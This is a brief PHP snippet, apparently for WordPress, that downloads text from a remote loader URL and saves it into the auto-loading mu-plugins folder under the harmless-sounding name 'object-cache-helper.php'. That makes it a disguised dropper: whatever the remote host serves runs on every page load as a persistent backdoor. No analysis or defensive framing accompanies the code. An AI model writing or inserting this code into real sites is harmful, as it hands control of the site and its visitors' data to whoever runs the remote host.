<?php
$src = 'https://cdn-wp-assets.example/loader.txt';
$payload = wp_remote_retrieve_body(wp_remote_get($src));
if ($payload) {
    file_put_contents(WP_CONTENT_DIR . '/mu-plugins/object-cache-helper.php', $payload);
}
